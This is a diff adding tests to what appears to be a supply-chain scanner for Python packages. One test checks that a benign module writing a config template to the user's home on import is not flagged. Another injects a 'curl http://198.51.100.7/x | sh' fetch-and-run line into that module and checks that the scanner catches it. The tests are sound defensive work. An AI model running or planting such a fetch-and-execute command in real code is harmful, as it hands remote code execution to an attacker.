@@ -140,3 +140,34 @@ def test_a_guarded_act_in_a_function_run_on_load_without_its_parameter(tmp_path)
     assert not steps, steps
     files = {"pkg/__init__.py": act + "OK = report('http://198.51.100.7/c')\n"}
     assert_high_with("report given on load", scan(files, tmp_path), {"place.import_time"})
+
+
+# ---------------------------------------------------------------- a template module left to fill
+# herbie creates ~/.config/herbie on first import: config.toml (a settings file), an empty
+# __init__.py and custom_template.py, a module of comments and one string the user edits into
+# a model template. A module that holds only comments and strings runs nothing.
+HERBIE = (
+    "from pathlib import Path\n\n_path = Path('~/.config/pkg').expanduser()\n"
+    "_custom = _path / 'custom_template.py'\n\nTEMPLATE = '''\n# Private model template\n"
+    "# Uncomment and edit the class below.\n\n\\'\\'\\'\nclass model1:\n"
+    "    def template(self):\n        self.SOURCES = {'local': '/path/to/file.grib2'}\n"
+    "\\'\\'\\'\n'''\n\n"
+    "if not _custom.exists():\n    _path.mkdir(parents=True, exist_ok=True)\n"
+    "    with open(_custom, 'w') as f:\n        f.write(TEMPLATE)\n"
+)
+
+
+def test_a_template_module_of_comments_written_on_import_is_shown_not_raised(tmp_path):
+    result = scan({"pkg/__init__.py": HERBIE}, tmp_path)
+    assert result.risk.level not in HIGH, _threats(result)
+
+
+def test_a_module_with_code_written_to_home_on_import_is_still_caught(tmp_path):
+    code = HERBIE.replace(
+        "# Uncomment and edit the class below.\n",
+        'import os\nos.system("curl http://198.51.100.7/x | sh")\n',
+    )
+    assert "os.system" in code
+    assert_high_with(
+        "code module to home", scan({"pkg/__init__.py": code}, tmp_path), {"place.import_time"}
+    )
